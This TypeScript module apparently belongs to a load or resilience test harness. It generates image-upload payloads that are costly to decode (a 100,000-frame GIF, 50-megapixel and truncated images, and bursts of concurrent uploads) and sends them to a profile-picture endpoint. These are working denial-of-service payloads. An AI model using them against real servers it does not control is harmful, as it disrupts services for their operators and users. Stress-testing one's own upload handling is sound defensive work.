import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { type Attack, call, fileForm, newReader } from './attack.ts';

const FRAMES = 100_000;

/** One reader who repeatedly uploads a profile picture. */
const pictureAttack = (name: string, draw: () => Promise<Uint8Array>, atOnce = 8): Attack => ({
  name: `picture: ${name}`,
  atOnce,
  async prepare(origin) {
    const reader = await newReader(origin);
    const picture = await draw();
    return () => call(reader, 'users/profile', fileForm('PATCH', 'perfil_url', picture));
  },
});

/** A GIF of one pixel, 23 bytes a frame: small to send and costly to decode. */
function manyFrames(): Uint8Array {
  const head = Buffer.from('474946383961010001008000000000' + '00ffffff', 'hex');
  const control = '21f904040a000000';
  const image = '2c00000000010001000002024401' + '00';
  return Buffer.concat([head, Buffer.from(`${(control + image).repeat(FRAMES)}3b`, 'hex')]);
}

const large = () =>
  sharp({ create: { width: 8000, height: 6250, channels: 3, background: '#b4532a' } });

async function truncated(): Promise<Uint8Array> {
  const whole = await large().jpeg({ progressive: true }).toBuffer();
  return whole.subarray(0, whole.length - 1000);
}

const noise = () =>
  sharp(randomBytes(1000 * 1000 * 3), { raw: { width: 1000, height: 1000, channels: 3 } })
    .png()
    .toBuffer();

/** Pictures that are costly to decode, and many at once. */
export const pictures: Attack[] = [
  pictureAttack('a GIF of 100,000 frames', async () => manyFrames()),
  pictureAttack('50 megapixels', () => large().png({ progressive: true }).toBuffer()),
  pictureAttack('50 megapixels, cut off', truncated),
  pictureAttack('24 at once of one reader', noise, 24),
];
